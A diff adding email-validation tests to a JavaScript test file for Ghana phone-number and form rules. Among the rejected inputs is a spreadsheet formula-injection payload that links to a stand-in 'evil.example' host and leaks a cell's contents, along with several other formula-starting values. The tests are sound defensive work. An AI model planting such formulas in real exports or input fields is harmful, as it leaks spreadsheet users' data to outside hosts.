@@ -1,4 +1,4 @@
-import { GHANA_MOBILE_PATTERN, formatGhanaMobile, isPhoneNumber, normaliseGhanaMobile } from './rules';
+import { EMAIL_PATTERN, GHANA_MOBILE_PATTERN, formatGhanaMobile, isPhoneNumber, normaliseGhanaMobile } from './rules';
 import { profileSchema, validateWith } from './forms';
 
 describe('Ghana mobile numbers', () => {
@@ -47,5 +47,43 @@ describe('isPhoneNumber: phone numbers as people in Ghana write them', () => {
   });
   it.each(['12345', '024 123', 'phone me', '+233 24 123 4567 8', '024-123-456a'])('refuses %s', (phone) => {
     expect(isPhoneNumber(phone)).toBe(false);
+  });
+});
+
+describe('email addresses', () => {
+  it.each([
+    'ama@example.com',
+    'Ama.Mensah@example.com.gh',
+    'kofi+laundry@mail.example.org',
+    "o'neil@example.co.uk",
+    'efua_owusu-2@sub-domain.example.gh',
+    'customer12.1767225600000@example.com',
+  ])('takes %j', (email) => {
+    expect(EMAIL_PATTERN.test(email)).toBe(true);
+  });
+
+  it.each([
+    // Each was accepted before, and a spreadsheet opening the orders export runs the first.
+    '=HYPERLINK("http://evil.example/?"&A2)&@x.co',
+    '=1+2@example.com',
+    '+cmd@example.com',
+    '-2+3@example.com',
+    '@ama@example.com',
+    '"ama mensah"@example.com',
+    'ama..mensah@example.com',
+    '.ama@example.com',
+    'ama.@example.com',
+    'ama(work)@example.com',
+    'ama@example',
+    'ama@-example.com',
+    'ama@example-.com',
+    'ama@exa_mple.com',
+    'ama@example.c',
+    'ama@example..com',
+    'ama mensah@example.com',
+    `${'a'.repeat(65)}@example.com`,
+    'amé@example.com',
+  ])('refuses %j', (email) => {
+    expect(EMAIL_PATTERN.test(email)).toBe(false);
   });
 });
